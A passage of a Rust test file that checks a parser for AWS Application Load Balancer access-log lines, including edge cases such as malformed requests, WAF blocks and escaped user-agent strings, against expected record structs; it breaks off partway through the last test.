/// Sample line 12 (vrl `thirteen`): unquoted target lists, 33 fields.
#[test]
fn unquoted_target_lists_33_fields() {
    check(
        r##"http 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.000 0.001 0.000 200 200 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337262-36d228ad5d99923122bbe354" "-" "-" 0 2018-07-02T22:22:48.364000Z "forward" "-" "-" 10.0.0.1:80 200 "-" "-" TID_dc57cebed65b444ebc8177bb698fe166 "-" "-" "-""##,
        AlbRecord {
            kind: "http",
            time_us: 1530570180186641, // 2018-07-02T22:23:00.186641Z
            elb: "app/my-loadbalancer/50dc6c495c0c9188",
            client_ip: Some("192.168.131.39"),
            client_port: Some(2817),
            target_ip: Some("10.0.0.1"),
            target_port: Some(80),
            request_processing_time: Some(0.0),
            target_processing_time: Some(0.001),
            response_processing_time: Some(0.0),
            elb_status_code: Some(200),
            target_status_code: Some(200),
            received_bytes: Some(34),
            sent_bytes: Some(366),
            request: "GET http://www.example.com:80/ HTTP/1.1",
            method: Some("GET"),
            url: Some("http://www.example.com:80/"),
            protocol: Some("HTTP/1.1"),
            user_agent: Some("curl/7.46.0"),
            ssl_cipher: None,
            ssl_protocol: None,
            target_group_arn: Some("arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067"),
            trace_id: Some("Root=1-58337262-36d228ad5d99923122bbe354"),
            domain_name: None,
            chosen_cert_arn: None,
            matched_rule_priority: Some(0),
            request_creation_time_us: Some(1530570168364000), // 2018-07-02T22:22:48.364000Z
            actions_executed: Some("forward"),
            redirect_url: None,
            error_reason: None,
            target_port_list: Some("10.0.0.1:80"),
            target_status_code_list: Some("200"),
            classification: None,
            classification_reason: None,
            conn_trace_id: Some("TID_dc57cebed65b444ebc8177bb698fe166"),
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 33,
        },
    );
}

/// Sample line 13 (vrl example): Lambda-style line + `TID_12345 "-" "-" "-"`.
#[test]
fn lambda_with_tid_and_transform_dashes() {
    check(
        r##"http 2018-11-30T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 - 0.000 0.001 0.000 200 200 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337364-23a8c76965a2ef7629b185e3" "-" "-" 0 2018-11-30T22:22:48.364000Z "forward" "-" "-" "-" "-" "-" "-" TID_12345 "-" "-" "-""##,
        AlbRecord {
            kind: "http",
            time_us: 1543616580186641, // 2018-11-30T22:23:00.186641Z
            elb: "app/my-loadbalancer/50dc6c495c0c9188",
            client_ip: Some("192.168.131.39"),
            client_port: Some(2817),
            target_ip: None,
            target_port: None,
            request_processing_time: Some(0.0),
            target_processing_time: Some(0.001),
            response_processing_time: Some(0.0),
            elb_status_code: Some(200),
            target_status_code: Some(200),
            received_bytes: Some(34),
            sent_bytes: Some(366),
            request: "GET http://www.example.com:80/ HTTP/1.1",
            method: Some("GET"),
            url: Some("http://www.example.com:80/"),
            protocol: Some("HTTP/1.1"),
            user_agent: Some("curl/7.46.0"),
            ssl_cipher: None,
            ssl_protocol: None,
            target_group_arn: Some("arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067"),
            trace_id: Some("Root=1-58337364-23a8c76965a2ef7629b185e3"),
            domain_name: None,
            chosen_cert_arn: None,
            matched_rule_priority: Some(0),
            request_creation_time_us: Some(1543616568364000), // 2018-11-30T22:22:48.364000Z
            actions_executed: Some("forward"),
            redirect_url: None,
            error_reason: None,
            target_port_list: None,
            target_status_code_list: None,
            classification: None,
            classification_reason: None,
            conn_trace_id: Some("TID_12345"),
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 33,
        },
    );
}

/// Sample line 15 (simnalamburt): `"- http://example.com:8080- -"`.
#[test]
fn malformed_request_without_version() {
    check(
        r##"http 2022-11-03T21:10:11.091427Z app/my-alb/1234567890abcdef 123.123.123.123:65432 - -1 -1 -1 400 - 0 272 "- http://example.com:8080- -" "-" - - - "-" "-" "-" - 2022-11-03T21:10:10.933000Z "-" "-" "-" "-" "-" "-" "-""##,
        AlbRecord {
            kind: "http",
            time_us: 1667509811091427, // 2022-11-03T21:10:11.091427Z
            elb: "app/my-alb/1234567890abcdef",
            client_ip: Some("123.123.123.123"),
            client_port: Some(65432),
            target_ip: None,
            target_port: None,
            request_processing_time: None,
            target_processing_time: None,
            response_processing_time: None,
            elb_status_code: Some(400),
            target_status_code: None,
            received_bytes: Some(0),
            sent_bytes: Some(272),
            request: "- http://example.com:8080- -",
            method: None,
            url: Some("http://example.com:8080-"),
            protocol: None,
            user_agent: None,
            ssl_cipher: None,
            ssl_protocol: None,
            target_group_arn: None,
            trace_id: None,
            domain_name: None,
            chosen_cert_arn: None,
            matched_rule_priority: None,
            request_creation_time_us: Some(1667509810933000), // 2022-11-03T21:10:10.933000Z
            actions_executed: None,
            redirect_url: None,
            error_reason: None,
            target_port_list: None,
            target_status_code_list: None,
            classification: None,
            classification_reason: None,
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 29,
        },
    );
}

/// Sample line 16 (simnalamburt): `"- http://example.com:8080- "` (no version, trailing space).
#[test]
fn malformed_request_trailing_space() {
    check(
        r##"http 2022-11-03T21:10:11.091427Z app/my-alb/1234567890abcdef 123.123.123.123:65432 - -1 -1 -1 400 - 0 272 "- http://example.com:8080- " "-" - - - "-" "-" "-" - 2022-11-03T21:10:10.933000Z "-" "-" "-" "-" "-" "-" "-""##,
        AlbRecord {
            kind: "http",
            time_us: 1667509811091427, // 2022-11-03T21:10:11.091427Z
            elb: "app/my-alb/1234567890abcdef",
            client_ip: Some("123.123.123.123"),
            client_port: Some(65432),
            target_ip: None,
            target_port: None,
            request_processing_time: None,
            target_processing_time: None,
            response_processing_time: None,
            elb_status_code: Some(400),
            target_status_code: None,
            received_bytes: Some(0),
            sent_bytes: Some(272),
            request: "- http://example.com:8080- ",
            method: None,
            url: Some("http://example.com:8080-"),
            protocol: None,
            user_agent: None,
            ssl_cipher: None,
            ssl_protocol: None,
            target_group_arn: None,
            trace_id: None,
            domain_name: None,
            chosen_cert_arn: None,
            matched_rule_priority: None,
            request_creation_time_us: Some(1667509810933000), // 2022-11-03T21:10:10.933000Z
            actions_executed: None,
            redirect_url: None,
            error_reason: None,
            target_port_list: None,
            target_status_code_list: None,
            classification: None,
            classification_reason: None,
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 29,
        },
    );
}

/// Sample line 17 (simnalamburt): chosen_cert_arn `session-reused`.
#[test]
fn h2_session_reused() {
    check(
        r##"h2 2022-11-03T10:05:44.872310Z app/myalb/0123456789012 123.123.123.123:54321 10.0.10.0:8080 0.000 0.003 0.000 200 200 285 131 "GET https://example.com:443/api/ HTTP/2.0" "Mozilla/5.0 (iPhone; CPU iPhone OS 16_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 MYAPP/4.2.1 iOS/16.0 iPhone13,1" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:ap-northeast-2:0123456789:targetgroup/mytargetgrouop/01234567890 "Root=1-abcdefgh-abcd-efgh-ijkl-0123456789" "example.com" "session-reused" 5 2022-11-03T10:05:44.869000Z "forward" "-" "-" "10.0.10.0:8080" "200" "-" "-""##,
        AlbRecord {
            kind: "h2",
            time_us: 1667469944872310, // 2022-11-03T10:05:44.872310Z
            elb: "app/myalb/0123456789012",
            client_ip: Some("123.123.123.123"),
            client_port: Some(54321),
            target_ip: Some("10.0.10.0"),
            target_port: Some(8080),
            request_processing_time: Some(0.0),
            target_processing_time: Some(0.003),
            response_processing_time: Some(0.0),
            elb_status_code: Some(200),
            target_status_code: Some(200),
            received_bytes: Some(285),
            sent_bytes: Some(131),
            request: "GET https://example.com:443/api/ HTTP/2.0",
            method: Some("GET"),
            url: Some("https://example.com:443/api/"),
            protocol: Some("HTTP/2.0"),
            user_agent: Some("Mozilla/5.0 (iPhone; CPU iPhone OS 16_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 MYAPP/4.2.1 iOS/16.0 iPhone13,1"),
            ssl_cipher: Some("ECDHE-RSA-AES128-GCM-SHA256"),
            ssl_protocol: Some("TLSv1.2"),
            target_group_arn: Some("arn:aws:elasticloadbalancing:ap-northeast-2:0123456789:targetgroup/mytargetgrouop/01234567890"),
            trace_id: Some("Root=1-abcdefgh-abcd-efgh-ijkl-0123456789"),
            domain_name: Some("example.com"),
            chosen_cert_arn: Some("session-reused"),
            matched_rule_priority: Some(5),
            request_creation_time_us: Some(1667469944869000), // 2022-11-03T10:05:44.869000Z
            actions_executed: Some("forward"),
            redirect_url: None,
            error_reason: None,
            target_port_list: Some("10.0.10.0:8080"),
            target_status_code_list: Some("200"),
            classification: None,
            classification_reason: None,
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 29,
        },
    );
}

/// Sample line 18 (simnalamburt): WAF block, 503 `waf,fixed-response`, target group `-`, domain `*`.
#[test]
fn waf_block_503_fixed_response() {
    check(
        r##"https 2022-11-02T16:16:31.662027Z app/myalb/0123456789012 123.123.123.123:54321 - -1 -1 -1 503 - 199 184 "GET https://10.100.10.100:443/ HTTP/1.1" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/70.0.3538.77 Safari/537.36" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 - "Root=1-abcdefgh-abcd-efgh-ijkl-0123456789" "*" "arn:aws:acm:ap-northeast-2:1234567890:certificate/abcdefgh-abcd-efgh-ijkl-0123456789" 0 2022-11-02T16:16:31.661000Z "waf,fixed-response" "-" "-" "-" "-" "-" "-""##,
        AlbRecord {
            kind: "https",
            time_us: 1667405791662027, // 2022-11-02T16:16:31.662027Z
            elb: "app/myalb/0123456789012",
            client_ip: Some("123.123.123.123"),
            client_port: Some(54321),
            target_ip: None,
            target_port: None,
            request_processing_time: None,
            target_processing_time: None,
            response_processing_time: None,
            elb_status_code: Some(503),
            target_status_code: None,
            received_bytes: Some(199),
            sent_bytes: Some(184),
            request: "GET https://10.100.10.100:443/ HTTP/1.1",
            method: Some("GET"),
            url: Some("https://10.100.10.100:443/"),
            protocol: Some("HTTP/1.1"),
            user_agent: Some("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/70.0.3538.77 Safari/537.36"),
            ssl_cipher: Some("ECDHE-RSA-AES128-GCM-SHA256"),
            ssl_protocol: Some("TLSv1.2"),
            target_group_arn: None,
            trace_id: Some("Root=1-abcdefgh-abcd-efgh-ijkl-0123456789"),
            domain_name: Some("*"),
            chosen_cert_arn: Some("arn:aws:acm:ap-northeast-2:1234567890:certificate/abcdefgh-abcd-efgh-ijkl-0123456789"),
            matched_rule_priority: Some(0),
            request_creation_time_us: Some(1667405791661000), // 2022-11-02T16:16:31.661000Z
            actions_executed: Some("waf,fixed-response"),
            redirect_url: None,
            error_reason: None,
            target_port_list: None,
            target_status_code_list: None,
            classification: None,
            classification_reason: None,
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 29,
        },
    );
}

/// Sample line 19 (simnalamburt): `SSTP_DUPLEX_POST` 400, matched_rule_priority `-`.
#[test]
fn rule_priority_dash_odd_method() {
    check(
        r##"https 2022-11-02T16:16:31.662027Z app/myalb/0123456789012 123.123.123.123:54321 - -1 -1 -1 400 - 192 272 "SSTP_DUPLEX_POST https://10.100.10.100:443/sra_{BA195980-CD49-458b-9E23-C84EE0ADCD75}/ HTTP/1.1" "-" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 - "-" "-" "arn:aws:acm:ap-northeast-2:1234567890:certificate/abcdefgh-abcd-efgh-ijkl-0123456789" - 2022-11-02T16:16:31.661000Z "-" "-" "-" "-" "-" "-" "-""##,
        AlbRecord {
            kind: "https",
            time_us: 1667405791662027, // 2022-11-02T16:16:31.662027Z
            elb: "app/myalb/0123456789012",
            client_ip: Some("123.123.123.123"),
            client_port: Some(54321),
            target_ip: None,
            target_port: None,
            request_processing_time: None,
            target_processing_time: None,
            response_processing_time: None,
            elb_status_code: Some(400),
            target_status_code: None,
            received_bytes: Some(192),
            sent_bytes: Some(272),
            request: "SSTP_DUPLEX_POST https://10.100.10.100:443/sra_{BA195980-CD49-458b-9E23-C84EE0ADCD75}/ HTTP/1.1",
            method: Some("SSTP_DUPLEX_POST"),
            url: Some("https://10.100.10.100:443/sra_{BA195980-CD49-458b-9E23-C84EE0ADCD75}/"),
            protocol: Some("HTTP/1.1"),
            user_agent: None,
            ssl_cipher: Some("ECDHE-RSA-AES128-GCM-SHA256"),
            ssl_protocol: Some("TLSv1.2"),
            target_group_arn: None,
            trace_id: None,
            domain_name: None,
            chosen_cert_arn: Some("arn:aws:acm:ap-northeast-2:1234567890:certificate/abcdefgh-abcd-efgh-ijkl-0123456789"),
            matched_rule_priority: None,
            request_creation_time_us: Some(1667405791661000), // 2022-11-02T16:16:31.661000Z
            actions_executed: None,
            redirect_url: None,
            error_reason: None,
            target_port_list: None,
            target_status_code_list: None,
            classification: None,
            classification_reason: None,
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 29,
        },
    );
}

/// Sample line 20 (simnalamburt): `HTTP/1.0 ` + `Acceptable`/`NonCompliantVersion`.
#[test]
fn protocol_with_trailing_space_classification() {
    check(
        r##"http 2020-01-01T22:22:22.222222Z app/myalb/0123456789abcdef 123.123.123.123:12345 10.0.10.0:80 0.001 0.007 0.000 404 404 19 997 "GET http://myalb-012345678.ap-northeast-2.elb.amazonaws.com:80/ HTTP/1.0 " "-" - - arn:aws:elasticloadbalancing:ap-northeast-2:012345678901:targetgroup/mytargetgroup/0123456789abcdef "Root=1-abcd0123-0123456789abcdef01234567" "-" "-" 0 2020-01-01T22:22:22.222222Z "forward" "-" "-" "10.0.10.0:80" "404" "Acceptable" "NonCompliantVersion""##,
        AlbRecord {
            kind: "http",
            time_us: 1577917342222222, // 2020-01-01T22:22:22.222222Z
            elb: "app/myalb/0123456789abcdef",
            client_ip: Some("123.123.123.123"),
            client_port: Some(12345),
            target_ip: Some("10.0.10.0"),
            target_port: Some(80),
            request_processing_time: Some(0.001),
            target_processing_time: Some(0.007),
            response_processing_time: Some(0.0),
            elb_status_code: Some(404),
            target_status_code: Some(404),
            received_bytes: Some(19),
            sent_bytes: Some(997),
            request: "GET http://myalb-012345678.ap-northeast-2.elb.amazonaws.com:80/ HTTP/1.0 ",
            method: Some("GET"),
            url: Some("http://myalb-012345678.ap-northeast-2.elb.amazonaws.com:80/"),
            protocol: Some("HTTP/1.0"),
            user_agent: None,
            ssl_cipher: None,
            ssl_protocol: None,
            target_group_arn: Some("arn:aws:elasticloadbalancing:ap-northeast-2:012345678901:targetgroup/mytargetgroup/0123456789abcdef"),
            trace_id: Some("Root=1-abcd0123-0123456789abcdef01234567"),
            domain_name: None,
            chosen_cert_arn: None,
            matched_rule_priority: Some(0),
            request_creation_time_us: Some(1577917342222222), // 2020-01-01T22:22:22.222222Z
            actions_executed: Some("forward"),
            redirect_url: None,
            error_reason: None,
            target_port_list: Some("10.0.10.0:80"),
            target_status_code_list: Some("404"),
            classification: Some("Acceptable"),
            classification_reason: Some("NonCompliantVersion"),
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 29,
        },
    );
}

/// Sample line 21 (simnalamburt): 503 with `forward` and no target, SNI `ip:port`.
#[test]
fn no_targets_503() {
    check(
        r##"https 2023-05-02T22:52:38.170624Z app/myalb/0123456789abcdef 123.123.123.123:12345 - -1 -1 -1 503 - 241 739 "GET https://12.123.123.12:443/ HTTP/1.1" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/60.0.3112.113 Safari/537.36" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:ap-northeast-2:012345678901:targetgroup/mytg/0123456789abcdef "Root=1-abcd0123-0123456789abcdef01234567" "12.123.123.12:443" "arn:aws:acm:ap-northeast-2:012345678901:certificate/abcdefgh-abcd-efgh-ijkl-0123456789" 0 2023-05-02T22:52:38.170000Z "forward" "-" "-" "-" "-" "-" "-""##,
        AlbRecord {
            kind: "https",
            time_us: 1683067958170624, // 2023-05-02T22:52:38.170624Z
            elb: "app/myalb/0123456789abcdef",
            client_ip: Some("123.123.123.123"),
            client_port: Some(12345),
            target_ip: None,
            target_port: None,
            request_processing_time: None,
            target_processing_time: None,
            response_processing_time: None,
            elb_status_code: Some(503),
            target_status_code: None,
            received_bytes: Some(241),
            sent_bytes: Some(739),
            request: "GET https://12.123.123.12:443/ HTTP/1.1",
            method: Some("GET"),
            url: Some("https://12.123.123.12:443/"),
            protocol: Some("HTTP/1.1"),
            user_agent: Some("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/60.0.3112.113 Safari/537.36"),
            ssl_cipher: Some("ECDHE-RSA-AES128-GCM-SHA256"),
            ssl_protocol: Some("TLSv1.2"),
            target_group_arn: Some("arn:aws:elasticloadbalancing:ap-northeast-2:012345678901:targetgroup/mytg/0123456789abcdef"),
            trace_id: Some("Root=1-abcd0123-0123456789abcdef01234567"),
            domain_name: Some("12.123.123.12:443"),
            chosen_cert_arn: Some("arn:aws:acm:ap-northeast-2:012345678901:certificate/abcdefgh-abcd-efgh-ijkl-0123456789"),
            matched_rule_priority: Some(0),
            request_creation_time_us: Some(1683067958170000), // 2023-05-02T22:52:38.170000Z
            actions_executed: Some("forward"),
            redirect_url: None,
            error_reason: None,
            target_port_list: None,
            target_status_code_list: None,
            classification: None,
            classification_reason: None,
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 29,
        },
    );
}

/// Sample line 22 (simnalamburt): `\x22` in the user agent, kept raw.
#[test]
fn escaped_quotes_in_user_agent() {
    check(
        r##"h2 2020-01-11T01:11:10.111111Z app/myalb/0123456789abcdef 1.123.123.123:12345 10.0.1.100:80 0.000 0.159 0.000 200 200 315 488 "GET https://example.com:443/very/good/route?some=pArameter12345&_=0123456788912 HTTP/2.0" "\x22Mozilla/5.0 (iPhone; CPU iPhone OS 11_4 like Mac OS X) available_resolution = 667,375 Apple Inc.~Apple A11 GPU\x22" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:ap-northeast-3:012345678901:targetgroup/myalb/0123456789abcdef "Root=1-abcd0123-0123456789abcdef01234567" "example.com" "session-reused" 1 2020-01-11T01:11:10.111111Z "forward" "-" "-" "10.0.1.100:80" "200" "-" "-""##,
        AlbRecord {
            kind: "h2",
            time_us: 1578705070111111, // 2020-01-11T01:11:10.111111Z
            elb: "app/myalb/0123456789abcdef",
            client_ip: Some("1.123.123.123"),
            client_port: Some(12345),
            target_ip: Some("10.0.1.100"),
            target_port: Some(80),
            request_processing_time: Some(0.0),
            target_processing_time: Some(0.159),
            response_processing_time: Some(0.0),
            elb_status_code: Some(200),
            target_status_code: Some(200),
            received_bytes: Some(315),
            sent_bytes: Some(488),
            request: "GET https://example.com:443/very/good/route?some=pArameter12345&_=0123456788912 HTTP/2.0",
            method: Some("GET"),
            url: Some("https://example.com:443/very/good/route?some=pArameter12345&_=0123456788912"),
            protocol: Some("HTTP/2.0"),
            user_agent: Some(r#"\x22Mozilla/5.0 (iPhone; CPU iPhone OS 11_4 like Mac OS X) available_resolution = 667,375 Apple Inc.~Apple A11 GPU\x22"#),
            ssl_cipher: Some("ECDHE-RSA-AES128-GCM-SHA256"),
            ssl_protocol: Some("TLSv1.2"),
            target_group_arn: Some("arn:aws:elasticloadbalancing:ap-northeast-3:012345678901:targetgroup/myalb/0123456789abcdef"),
            trace_id: Some("Root=1-abcd0123-0123456789abcdef01234567"),
            domain_name: Some("example.com"),
            chosen_cert_arn: Some("session-reused"),
            matched_rule_priority: Some(1),
            request_creation_time_us: Some(1578705070111111), // 2020-01-11T01:11:10.111111Z
            actions_executed: Some("forward"),
            redirect_url: None,
            error_reason: None,
            target_port_list: Some("10.0.1.100:80"),
            target_status_code_list: Some("200"),
            classification: None,
            classification_reason: None,
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 29,
        },
    );
}

/// Sample line 23 (simnalamburt): UTF-8 bytes escaped as `\xEC...`.
#[test]
fn escaped_utf8_user_agent() {
    check(
        r##"h2 2020-01-11T01:11:10.111111Z app/myalb/0123456789abcdef 1.123.123.123:12345 10.0.1.100:80 0.000 0.159 0.000 200 200 315 488 "GET https://example.com:443/very/good/route?some=pArameter12345&_=0123456788912 HTTP/2.0" "\xEC\x97\x90\xEC\x9D\xB4\xEC\xA0\x84\xED\x8A\xB8" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:ap-northeast-3:012345678901:targetgroup/myalb/0123456789abcdef "Root=1-abcd0123-0123456789abcdef01234567" "example.com" "session-reused" 1 2020-01-11T01:11:10.111111Z "forward" "-" "-" "10.0.1.100:80" "200" "-" "-""##,
        AlbRecord {
            kind: "h2",
            time_us: 1578705070111111, // 2020-01-11T01:11:10.111111Z
            elb: "app/myalb/0123456789abcdef",
            client_ip: Some("1.123.123.123"),
            client_port: Some(12345),
            target_ip: Some("10.0.1.100"),
            target_port: Some(80),
            request_processing_time: Some(0.0),
            target_processing_time: Some(0.159),
            response_processing_time: Some(0.0),
            elb_status_code: Some(200),
            target_status_code: Some(200),
            received_bytes: Some(315),
            sent_bytes: Some(488),
            request: "GET https://example.com:443/very/good/route?some=pArameter12345&_=0123456788912 HTTP/2.0",
            method: Some("GET"),
            url: Some("https://example.com:443/very/good/route?some=pArameter12345&_=0123456788912"),
            protocol: Some("HTTP/2.0"),
            user_agent: Some(r#"\xEC\x97\x90\xEC\x9D\xB4\xEC\xA0\x84\xED\x8A\xB8"#),
            ssl_cipher: Some("ECDHE-RSA-AES128-GCM-SHA256"),
            ssl_protocol: Some("TLSv1.2"),
            target_group_arn: Some("arn:aws:elasticloadbalancing:ap-northeast-3:012345678901:targetgroup/myalb/0123456789abcdef"),
            trace_id: Some("Root=1-abcd0123-0123456789abcdef01234567"),
            domain_name: Some("example.com"),
            chosen_cert_arn: Some("session-reused"),
            matched_rule_priority: Some(1),
            request_creation_time_us: Some(1578705070111111), // 2020-01-11T01:11:10.111111Z
            actions_executed: Some("forward"),
            redirect_url: None,
            error_reason: None,
            target_port_list: Some("10.0.1.100:80"),
            target_status_code_list: Some("200"),
            classification: None,
            classification_reason: None,
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 29,
        },
    );
}

/// Sample line 24 (simnalamburt): odd `\x00000022` escape.
#[test]
fn eight_digit_escape_user_agent() {
    check(
        r##"h2 2020-01-11T01:11:10.111111Z app/myalb/0123456789abcdef 1.123.123.123:12345 10.0.1.100:80 0.000 0.159 0.000 200 200 315 488 "GET https://example.com:443/very/good/route?some=pArameter12345&_=0123456788912 HTTP/2.0" "\x00000022Mozilla/5.0 (iPhone; CPU iPhone OS 11_4 like Mac OS X) available_resolution = 667,375 Apple Inc.~Apple A11 GPU\x00000022" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:ap-northeast-3:012345678901:targetgroup/myalb/0123456789abcdef "Root=1-abcd0123-0123456789abcdef01234567" "example.com" "session-reused" 1 2020-01-11T01:11:10.111111Z "forward" "-" "-" "10.0.1.100:80" "200" "-" "-""##,
        AlbRecord {
            kind: "h2",
            time_us: 1578705070111111, // 2020-01-11T01:11:10.111111Z
            elb: "app/myalb/0123456789abcdef",
            client_ip: Some("1.123.123.123"),
            client_port: Some(12345),
            target_ip: Some("10.0.1.100"),
            target_port: Some(80),
            request_processing_time: Some(0.0),
            target_processing_time: Some(0.159),
            response_processing_time: Some(0.0),
            elb_status_code: Some(200),
            target_status_code: Some(200),
            received_bytes: Some(315),
            sent_bytes: Some(488),
            request: "GET https://example.com:443/very/good/route?some=pArameter12345&_=0123456788912 HTTP/2.0",
            method: Some("GET"),
            url: Some("https://example.com:443/very/good/route?some=pArameter12345&_=0123456788912"),
            protocol: Some("HTTP/2.0"),
            user_agent: Some(r#"\x00000022Mozilla/5.0 (iPhone; CPU iPhone OS 11_4 like Mac OS X) available_resolution = 667,375 Apple Inc.~Apple A11 GPU\x00000022"#),
            ssl_cipher: Some("ECDHE-RSA-AES128-GCM-SHA256"),
            ssl_protocol: Some("TLSv1.2"),
            target_group_arn: Some("arn:aws:elasticloadbalancing:ap-northeast-3:012345678901:targetgroup/myalb/0123456789abcdef"),
            trace_id: Some("Root=1-abcd0123-0123456789abcdef01234567"),
            domain_name: Some("example.com"),
            chosen_cert_arn: Some("session-reused"),
            matched_rule_priority: Some(1),
            request_creation_time_us: Some(1578705070111111), // 2020-01-11T01:11:10.111111Z
            actions_executed: Some("forward"),
            redirect_url: None,
            error_reason: None,
            target_port_list: Some("10.0.1.100:80"),
            target_status_code_list: Some("200"),
            classification: None,
            classification_reason: None,
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 29,
        },
    );
}

/// Sample line 25 (simnalamburt): `""` actions_executed, `" some-subdomain..."`.
#[test]
fn empty_actions_executed_and_leading_space_domain() {
    check(
        r##"https 2023-06-01T12:34:56.123456Z app/myalb/0123456789abcdef 123.123.123.123:12345 10.0.12.34:80 0.001 0.002 0.003 200 200 123 456 "GET https://_test.example.com/ HTTP/2.0" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/60.0.3112.113 Safari/537.36" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:ap-northeast-2:012345678901:targetgroup/mytg/0123456789abcdef "Root=1-abcd0123-0123456789abcdef01234567" " some-subdomain.domain.com" "arn:aws:acm:ap-northeast-2:012345678901:certificate/abcdefgh-abcd-efgh-ijkl-0123456789" 0 2023-05-02T22:52:38.170000Z "" "-" "-" "-" "-" "-" "-""##,
        AlbRecord {
            kind: "https",
            time_us: 1685622896123456, // 2023-06-01T12:34:56.123456Z
            elb: "app/myalb/0123456789abcdef",
            client_ip: Some("123.123.123.123"),
            client_port: Some(12345),
            target_ip: Some("10.0.12.34"),
            target_port: Some(80),
            request_processing_time: Some(0.001),
            target_processing_time: Some(0.002),
            response_processing_time: Some(0.003),
            elb_status_code: Some(200),
            target_status_code: Some(200),
            received_bytes: Some(123),
            sent_bytes: Some(456),
            request: "GET https://_test.example.com/ HTTP/2.0",
            method: Some("GET"),
            url: Some("https://_test.example.com/"),
            protocol: Some("HTTP/2.0"),
            user_agent: Some("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/60.0.3112.113 Safari/537.36"),
            ssl_cipher: Some("ECDHE-RSA-AES128-GCM-SHA256"),
            ssl_protocol: Some("TLSv1.2"),
            target_group_arn: Some("arn:aws:elasticloadbalancing:ap-northeast-2:012345678901:targetgroup/mytg/0123456789abcdef"),
            trace_id: Some("Root=1-abcd0123-0123456789abcdef01234567"),
            domain_name: Some("some-subdomain.domain.com"),
            chosen_cert_arn: Some("arn:aws:acm:ap-northeast-2:012345678901:certificate/abcdefgh-abcd-efgh-ijkl-0123456789"),
            matched_rule_priority: Some(0),
            request_creation_time_us: Some(1683067958170000), // 2023-05-02T22:52:38.170000Z
            actions_executed: None,
            redirect_url: None,
            error_reason: None,
            target_port_list: None,
            target_status_code_list: None,
            classification: None,
            classification_reason: None,
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 29,
        },
    );
}

/// Sample line 26 (simnalamburt): method `--location`.
#[test]
fn method_looking_like_option() {
    check(
        r##"https 2023-06-01T12:34:56.123456Z app/myalb/0123456789abcdef 123.123.123.123:12345 10.0.12.34:80 0.001 0.002 0.003 200 200 123 456 "--location https://example.com/ HTTP/2.0" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/60.0.3112.113 Safari/537.36" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:ap-northeast-2:012345678901:targetgroup/mytg/0123456789abcdef "Root=1-abcd0123-0123456789abcdef01234567" " some-subdomain.domain.com" "arn:aws:acm:ap-northeast-2:012345678901:certificate/abcdefgh-abcd-efgh-ijkl-0123456789" 0 2023-05-02T22:52:38.170000Z "forward" "-" "-" "-" "-" "-" "-""##,
        AlbRecord {
            kind: "https",
            time_us: 1685622896123456, // 2023-06-01T12:34:56.123456Z
            elb: "app/myalb/0123456789abcdef",
            client_ip: Some("123.123.123.123"),
            client_port: Some(12345),
            target_ip: Some("10.0.12.34"),
            target_port: Some(80),
            request_processing_time: Some(0.001),
            target_processing_time: Some(0.002),
            response_processing_time: Some(0.003),
            elb_status_code: Some(200),
            target_status_code: Some(200),
            received_bytes: Some(123),
            sent_bytes: Some(456),
